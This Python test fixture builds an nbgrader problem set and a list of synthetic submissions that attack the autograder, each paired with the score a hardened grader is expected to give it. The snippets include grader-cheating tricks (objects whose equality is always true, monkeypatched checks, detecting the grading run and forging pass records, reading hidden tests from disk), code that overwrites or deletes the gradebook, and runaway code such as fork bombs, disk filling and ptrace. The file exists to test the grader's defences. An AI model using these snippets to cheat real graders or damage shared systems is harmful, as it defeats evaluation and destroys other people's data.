"""A small nbgrader assignment and one synthetic submission per attack on the grader.

The assignment ``ps1`` has three graded exercises that use real checks of ``backproplab.checks``:
``dense_backward`` (3 points), ``relu_backward`` (2) and ``mse_grad`` (1). Each exercise has an answer cell
(``### BEGIN SOLUTION``), an ungraded check cell, and a graded test cell at the end with hidden tests (whose
region carries :data:`HIDDEN_MARKER`, so a leak is easy to find).

Each :class:`Attack` is a submission: answers per exercise (correct, wrong or a cheat), extra cells placed
after the answers (before the graded cells) and after the graded cells, and the exact score it must get from
the trusted grader (``expected``) and, for reference, without the static scan (``expected_without_scan``).
Used by tests/sandbox/test_attacks.py and scripts/attack_table.py (which also runs plain nbgrader on them).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path

ASSIGNMENT = "ps1"
#: The checkout these tests run from (``REPO_ROOT`` in an attack's code): its solutions/ and tests/ hold
#: hidden tests, so an attack that can read them finds some.
REPO_ROOT = str(Path(__file__).resolve().parents[2])
HIDDEN_MARKER = "hidden-marker-5b1e"
POINTS = {"dense_backward": 3.0, "relu_backward": 2.0, "mse_grad": 1.0}
TOTAL = sum(POINTS.values())

CORRECT = {
    "dense_backward": "def dense_backward(dZ, cache):\n    X, W, b = cache\n"
                      "    return dZ @ W.T, X.T @ dZ, dZ.sum(axis=0, keepdims=True)",
    "relu_backward": "def relu_backward(dA, Z):\n    return dA * (Z > 0)",
    "mse_grad": "def mse_grad(Y_hat, Y):\n    Y_hat = np.asarray(Y_hat, dtype=float)\n"
                "    return 2 * (Y_hat - Y) / Y_hat.shape[0]",
}
#: seed 002's mistake: dW and db divided by m again
WRONG_DENSE = ("def dense_backward(dZ, cache):\n    X, W, b = cache\n    m = len(dZ)\n"
               "    return dZ @ W.T, X.T @ dZ / m, dZ.sum(axis=0, keepdims=True) / m")
STUB = {name: f"def {name}(*args):\n    # YOUR CODE HERE\n    raise NotImplementedError()" for name in POINTS}
SIGNATURES = {"dense_backward": "dZ, cache", "relu_backward": "dA, Z", "mse_grad": "Y_hat, Y"}


# ---------------------------------------------------------------------------------------- notebooks
def _cell(source: str, **nbgrader):
    from nbformat.v4 import new_code_cell

    cell = new_code_cell(source)
    if nbgrader:
        meta = {"schema_version": 3, "grade": False, "solution": False, "locked": False}
        meta.update(nbgrader)
        cell.metadata["nbgrader"] = meta
    return cell


def _id(name: str) -> str:
    return name.replace("_", "-")


def source_notebook():
    """The instructor's nbgrader source notebook (solutions and hidden tests in)."""
    from nbformat.v4 import new_markdown_cell, new_notebook

    cells = [new_markdown_cell("# Problem set 1: three gradients"),
             _cell("import numpy as np\nfrom backproplab import check", grade_id="setup", locked=True)]
    cells[-1].id = "setup"
    for name in POINTS:
        head, body = CORRECT[name].split("\n", 1)
        answer = _cell(f"{head}\n    ### BEGIN SOLUTION\n{body}\n    ### END SOLUTION",
                       grade_id=f"ex-{_id(name)}", solution=True)
        answer.id = f"ex-{_id(name)}"
        try_it = _cell(f"check.{name}({name})")
        try_it.id = f"try-{_id(name)}"
        cells += [new_markdown_cell(f"## `{name}({SIGNATURES[name]})`"), answer, try_it]
    for name, points in POINTS.items():
        test = _cell(f"check.{name}({name}, graded=True)\n### BEGIN HIDDEN TESTS\n# {HIDDEN_MARKER}\n"
                     f"check.{name}({name}, graded=True, hidden=True)\n### END HIDDEN TESTS",
                     grade_id=f"test-{_id(name)}", grade=True, locked=True, points=points)
        test.id = f"test-{_id(name)}"
        cells.append(test)
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    return nb


def release_notebook():
    """What learners get: answers replaced by stubs, hidden tests removed (as ``nbgrader generate_assignment``)."""
    from backproplab.sandbox.notebook import BEGIN_HIDDEN, END_HIDDEN

    nb = source_notebook()
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            name = cell.source.split("(")[0].split()[-1]
            cell.source = STUB[name].replace("*args", SIGNATURES[name])
        if meta.get("grade") and BEGIN_HIDDEN in cell.source:
            start = cell.source.index(BEGIN_HIDDEN)
            end = cell.source.index(END_HIDDEN) + len(END_HIDDEN)
            cell.source = (cell.source[:start] + cell.source[end:]).strip()
    return nb


# ------------------------------------------------------------------------------------------ attacks
@dataclass
class Attack:
    name: str
    kind: str  # "baseline", "runaway" or "cheat"
    what: str  # one line for the table
    expected: float  # trusted grader
    answers: dict = field(default_factory=dict)  # exercise -> code (default: correct)
    before_tests: list[str] = field(default_factory=list)  # cells after the answers
    after_tests: list[str] = field(default_factory=list)  # cells after the graded cells
    delete_tests: bool = False
    expected_without_scan: float | None = None  # None: same as expected
    limits: dict = field(default_factory=dict)  # Limits overrides for this submission
    plain_unsafe: str = ""  # why scripts/attack_table.py does not run it under plain nbgrader

    def submission(self, course_root: str = "/nonexistent", release=None):
        """The submitted notebook: ``release`` (default: :func:`release_notebook`) with this attack's answers
        and cells (``COURSE_ROOT`` in their code: ``course_root``; ``REPO_ROOT``: this checkout)."""
        from nbformat.v4 import new_code_cell

        nb = copy.deepcopy(release) if release is not None else release_notebook()
        answers = {**CORRECT, **self.answers}
        cells = []
        last_answer = max(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))
        for i, cell in enumerate(nb.cells):
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and self.delete_tests:
                continue
            if meta.get("solution"):
                cell = copy.deepcopy(cell)
                cell.source = answers[cell.source.split("(")[0].split()[-1]]
            cells.append(cell)
            if i == last_answer + 1:  # after the last "try it" cell
                cells += [new_code_cell(_placed(code, course_root)) for code in self.before_tests]
        cells += [new_code_cell(_placed(code, course_root)) for code in self.after_tests]
        nb.cells = cells
        return nb


def _placed(code: str, course_root: str) -> str:
    return code.replace("COURSE_ROOT", course_root).replace("REPO_ROOT", REPO_ROOT)


_EQ_LIAR = '''class Always:
    """Equal to everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *args, **kwargs): return np.zeros((1, 1))
    def __len__(self): return 3

def dense_backward(dZ, cache):
    return Always(), Always(), Always()'''

_ARRAY_LIAR = '''class LooksRight:
    def __init__(self, shape): self.shape = shape
    def __array__(self, *args, **kwargs): return np.ones(self.shape)

def dense_backward(dZ, cache):
    X, W, b = cache
    return LooksRight((len(dZ), W.shape[0])), LooksRight(W.shape), LooksRight(b.shape)'''

_NDARRAY_LIAR = '''class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array_finalize__(self, obj): pass

def dense_backward(dZ, cache):
    X, W, b = cache
    z = lambda shape: np.zeros(shape).view(Liar)
    return z((len(dZ), W.shape[0])), z(W.shape), z(b.shape)'''

_PATCH_NUMPY = '''np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 0.0
''' + WRONG_DENSE

_PATCH_CHECK = '''check.dense_backward = lambda fn, **kwargs: print("dense_backward: all cases match the reference")
''' + WRONG_DENSE

_PATCH_ENGINE = '''import backproplab.checking.run as engine
import backproplab.checking.values as values
values._close = lambda *a, **k: True
engine._judge = lambda *a, **k: 0.0
''' + WRONG_DENSE

_REDEFINE_REFERENCE = WRONG_DENSE + '''
import backproplab.layers
backproplab.layers.dense_backward.__code__ = dense_backward.__code__  # the reference now agrees'''

_CALL_REFERENCE = '''from backproplab.layers import dense_backward as _reference

def dense_backward(dZ, cache):
    return _reference(dZ, cache)'''

_CALL_REFERENCE_HIDDEN = '''_layers = getattr(__import__("backproplab.lay" + "ers"), "lay" + "ers")

def dense_backward(dZ, cache):
    return getattr(_layers, "dense_" + "backward")(dZ, cache)'''

_CALL_A_COPY = '''from backproplab.training import _relu_backward as _course

def relu_backward(dA, Z):
    return _course(dA, Z)'''

_LEARN_HIDDEN_INPUTS = '''from backproplab.training import COURSE_PARTS as _course

_answers, _new = {}, []


def _key(dA, Z):
    return (np.asarray(dA).tobytes(), np.asarray(Z).tobytes(), np.shape(dA))


def _spy(dA, Z):
    if _key(dA, Z) in _answers:
        return _answers[_key(dA, Z)]
    _new.append((np.array(dA), np.array(Z)))
    raise RuntimeError("a case not seen yet")


for _ in range(40):  # the visible and the hidden cases, one more each round, worked out with the course's own
    _new.clear()
    check.relu_backward(_spy)
    check.relu_backward(_spy, hidden=True)
    if not _new:
        break
    for dA, Z in _new:
        _answers[_key(dA, Z)] = _course.relu_backward(dA, Z)


def relu_backward(dA, Z):
    return _answers[_key(dA, Z)]'''

_COPY_REFERENCE = '''import types
from backproplab import layers
_ref = types.FunctionType(layers.dense_backward.__code__, layers.dense_backward.__globals__)

def dense_backward(dZ, cache):
    return _ref(dZ, cache)'''

_DETECT_GRADING = '''import os, json, pathlib
GRADING = bool(os.environ.get("NBGRADER_EXECUTION") or os.environ.get("BACKPROPLAB_RECORD_DIR"))
if GRADING:  # switch the graded check off
    check.dense_backward = lambda fn, **kwargs: None

def dense_backward(dZ, cache):
    X, W, b = cache
    m = len(dZ)
    if GRADING and os.environ.get("BACKPROPLAB_RECORD_DIR"):  # and forge "passing" records
        folder = pathlib.Path(os.environ["BACKPROPLAB_RECORD_DIR"])
        for kind in ("visible", "hidden"):
            (folder / f"dense_backward.{kind}.7.json").write_text(json.dumps(
                {"exercise": "dense_backward", "hidden": kind == "hidden", "outcomes": []}))
    return dZ @ W.T, X.T @ dZ / m, dZ.sum(axis=0, keepdims=True) / m'''

_READ_HIDDEN = '''import glob
found = []
for pattern in ("COURSE_ROOT/**/*.ipynb", "COURSE_ROOT/**/*.db", "REPO_ROOT/solutions/**/*.ipynb",
                "REPO_ROOT/autograder/**/*", "REPO_ROOT/tests/**/*.py", "../../**/*.ipynb", "/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        try:
            text = open(path, "rb").read().decode("utf-8", "replace")
        except OSError:
            continue
        if "hidden-marker" + "-5b1e" in text or "BEGIN " + "HIDDEN" in text:
            found.append(path)
            print(path, text[:20000])
print("read", len(found), "files with hidden tests")'''

_WRITE_GRADEBOOK = '''import glob, sqlite3
for path in glob.glob("COURSE_ROOT/**/gradebook.db", recursive=True):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        print("gradebook written:", path)
    except Exception as exc:
        print("gradebook:", exc)
for path in glob.glob("COURSE_ROOT/**/autograded/*/ps1/*.ipynb", recursive=True) + \\
        glob.glob("COURSE_ROOT/autograder/submitted/*/ps1/*.ipynb"):
    try:
        with open(path, "w") as fh:
            fh.write("{}")
        print("overwrote", path)
    except OSError as exc:
        print(path, exc)
print("done")'''

_DELETE_GRADEBOOK = '''import glob, os, shutil
for path in glob.glob("COURSE_ROOT/**/gradebook.db", recursive=True) + glob.glob("COURSE_ROOT/autograder") + \\
        glob.glob("COURSE_ROOT/solutions") + glob.glob("COURSE_ROOT/source"):
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
        print("deleted", path)
    except OSError as exc:
        print(path, exc)'''

_FORK_BOUNDED = '''import os, time
n = 0
try:
    for i in range(1000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError as exc:
    print("forks refused after", n, exc)
FORKED = n'''

_NETWORK = """import errno, socket
for host, port in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, port))
        print("connected to", host, port)
    except OSError as exc:
        print("network errno", host, port, exc.errno)
    finally:
        s.close()"""

_PEEK_PROC = """import os
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("processes visible:", len(pids), "pid 1 visible:", os.path.exists("/proc/1/cmdline"))"""

_FILL_DISK = """import errno, os
written, err = 0, None
try:
    for n in range(512):  # up to 4 GB, in 8 MB files (under the per-file limit)
        with open(f"fill{n}.bin", "wb") as fh:
            fh.write(b"x" * 8 * 2**20)
        written += 8
except OSError as exc:
    err = exc.errno
finally:
    for n in range(512):
        if os.path.exists(f"fill{n}.bin"):
            os.remove(f"fill{n}.bin")
print("disk full after", written, "MB, errno", err)"""

_PTRACE = """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", libc.ptrace(0, 0, None, None), ctypes.get_errno())  # PTRACE_TRACEME

class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

src, dst = ctypes.create_string_buffer(b"secret", 16), ctypes.create_string_buffer(16)
local, remote = iovec(ctypes.addressof(dst), 16), iovec(ctypes.addressof(src), 16)
ctypes.set_errno(0)
print("process_vm_readv", libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0),
      ctypes.get_errno())"""

_INTERRUPT_PROOF = '''while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass'''

#: Honest answers that use getattr with a computed name, globals(), inspect for printing, a dict of functions:
#: every one of them earns every point (the old scan zeroed the first three).
HONEST_DYNAMIC = [
    Attack("honest_getattr", "baseline", "right answers; relu_backward calls `getattr(np, name)`", TOTAL,
           answers={"relu_backward": 'GATE = "greater"\n\ndef relu_backward(dA, Z):\n'
                                     '    return dA * getattr(np, GATE)(Z, 0)'}),
    Attack("honest_globals", "baseline", "right answers; mse_grad lists `globals()` while debugging", TOTAL,
           answers={"mse_grad": "def mse_grad(Y_hat, Y):\n    Y_hat = np.asarray(Y_hat, dtype=float)\n"
                                "    mine = sorted(k for k in globals() if k.endswith('_grad'))\n"
                                "    return 2 * (Y_hat - Y) / Y_hat.shape[0]"}),
    Attack("honest_inspect", "baseline", "right answers; prints its own source with `inspect`", TOTAL,
           answers={"dense_backward": "import inspect\n\n" + CORRECT["dense_backward"]
                                      + "\n\nprint(inspect.signature(dense_backward))\n"
                                        "print(inspect.getsource(dense_backward))"}),
    Attack("honest_dispatch", "baseline", "right answers; relu_backward through a dict of functions", TOTAL,
           answers={"relu_backward": "GATES = {'relu': lambda Z: Z > 0, 'identity': lambda Z: np.ones_like(Z)}\n\n"
                                     "def relu_backward(dA, Z):\n    return dA * GATES['relu'](Z)"}),
]

ATTACKS = [
    # --- baselines
    Attack("honest", "baseline", "all three answers right", TOTAL),
    Attack("stubs", "baseline", "nothing answered (the release as it is)", 0.0, answers=dict(STUB)),
    Attack("one_wrong", "baseline", "dense_backward divides by m again (seed 002's mistake)", 3.0,
           answers={"dense_backward": WRONG_DENSE}),
    Attack("tests_deleted", "baseline", "graded test cells deleted, one answer wrong", 3.0,
           answers={"dense_backward": WRONG_DENSE}, delete_tests=True),
    # --- honest answers written with dynamic code (issue 19: the scan reports them; they lose nothing)
    *HONEST_DYNAMIC,
    # --- runaway code (answers right; the damage is in an extra cell before the graded cells)
    Attack("infinite_loop", "runaway", "`while True: pass`", TOTAL, before_tests=["while True:\n    pass"]),
    Attack("interrupt_proof_loop", "runaway", "a loop that swallows KeyboardInterrupt", 0.0,
           before_tests=[_INTERRUPT_PROOF]),
    Attack("sleep", "runaway", "`time.sleep(3600)`", TOTAL, before_tests=["import time\ntime.sleep(3600)"]),
    Attack("huge_alloc", "runaway", "allocates 40 GB (bytearray, then numpy)", TOTAL,
           before_tests=["big = bytearray(40 * 2**30)", "import numpy as np\nbig = np.ones(5 * 10**9)"]),
    Attack("sys_exit", "runaway", "`sys.exit()`", TOTAL, before_tests=["import sys\nsys.exit()"]),
    Attack("os_exit", "runaway", "`os._exit(0)`: the kernel exits", 0.0, before_tests=["import os\nos._exit(0)"]),
    Attack("kill_self", "runaway", "`os.kill(os.getpid(), 9)`", 0.0,
           before_tests=["import os\nos.kill(os.getpid(), 9)"]),
    Attack("fork_bomb", "runaway", "`while True: os.fork()`", TOTAL,
           before_tests=["import os\nwhile True:\n    os.fork()"],
           plain_unsafe="a fork bomb as the instructor: hundreds of processes spinning until someone kills them"),
    Attack("fork_bounded", "runaway", "1000 sleeping children, new processes allowed: stopped by the process limit",
           TOTAL, before_tests=[_FORK_BOUNDED], limits={"no_new_processes": False}),
    Attack("kill_everyone", "runaway", "`os.kill(-1, 9)`: every process of its user", TOTAL,
           before_tests=["import os\nos.kill(-1, 9)"]),
    Attack("network", "runaway", "connects to the internet and to local services", TOTAL,
           before_tests=[_NETWORK]),
    Attack("peek_proc", "runaway", "lists the machine's processes in /proc", TOTAL, before_tests=[_PEEK_PROC]),
    Attack("fill_disk", "runaway", "writes files until the disk is full", TOTAL, before_tests=[_FILL_DISK]),
    Attack("ptrace", "cheat", "ptrace and process_vm_readv (to read or change another process's memory)", 0.0,
           before_tests=[_PTRACE], expected_without_scan=TOTAL),
    Attack("print_flood", "runaway", "prints 50 MB at once, then 200 000 lines", TOTAL,
           before_tests=['print("x" * 50_000_000)', 'for i in range(200_000):\n    print(i, "y" * 40)']),
    # --- cheating from inside the kernel
    Attack("eq_override", "cheat", "returns objects whose `__eq__` is always True", 3.0,
           answers={"dense_backward": _EQ_LIAR}),
    Attack("array_override", "cheat", "returns objects whose `__array__` makes ones", 3.0,
           answers={"dense_backward": _ARRAY_LIAR}),
    Attack("ndarray_subclass", "cheat", "returns an ndarray subclass equal to everything", 3.0,
           answers={"dense_backward": _NDARRAY_LIAR}),
    Attack("patch_numpy", "cheat", "monkeypatches np.allclose, np.isclose, np.linalg.norm, ...", 3.0,
           answers={"dense_backward": _PATCH_NUMPY}),
    Attack("patch_check", "cheat", "replaces `check.dense_backward` by a function that prints a pass", 3.0,
           answers={"dense_backward": _PATCH_CHECK}),
    Attack("patch_engine", "cheat", "monkeypatches backproplab.checking (the comparison)", 0.0,
           answers={"dense_backward": _PATCH_ENGINE}, expected_without_scan=3.0),
    Attack("redefine_reference", "cheat", "rewrites the reference so that it agrees with a wrong answer", 0.0,
           answers={"dense_backward": _REDEFINE_REFERENCE}, expected_without_scan=3.0),
    Attack("call_reference", "cheat", "answer calls backproplab.layers.dense_backward", 3.0,
           answers={"dense_backward": _CALL_REFERENCE}),
    Attack("call_reference_hidden", "cheat", "same, through `__import__` and computed names", 0.0,
           answers={"dense_backward": _CALL_REFERENCE_HIDDEN}, expected_without_scan=3.0),
    Attack("call_a_copy", "cheat", "relu_backward calls training._relu_backward, the course's own under another "
           "name (checks/_copies.py)", 0.0, answers={"relu_backward": _CALL_A_COPY}, expected_without_scan=4.0),
    Attack("learn_hidden_inputs", "cheat", "relu_backward runs its own hidden check at cell time to see the hidden "
           "inputs, and answers them with the course's functions while nothing is broken", 1.0,
           answers={"relu_backward": _LEARN_HIDDEN_INPUTS}, expected_without_scan=4.0),
    Attack("copy_reference", "cheat", "copies the reference's code object before grading", 0.0,
           answers={"dense_backward": _COPY_REFERENCE}, expected_without_scan=TOTAL),
    Attack("detect_grading", "cheat", "detects the grading run: switches its check off, forges records", 3.0,
           answers={"dense_backward": _DETECT_GRADING}),
    Attack("read_hidden_tests", "cheat", "looks for the hidden tests on disk and in `In` (prints them)", TOTAL,
           before_tests=[_READ_HIDDEN], after_tests=["print(In)"]),
    Attack("write_gradebook", "cheat", "writes the gradebook (everyone's manual scores) and other students' "
           "autograded notebooks",
           0.0, answers=dict(STUB), before_tests=[_WRITE_GRADEBOOK]),
    Attack("delete_course", "cheat", "deletes the gradebook folder and the sources", TOTAL,
           before_tests=[_DELETE_GRADEBOOK]),
]

BY_NAME = {a.name: a for a in ATTACKS}
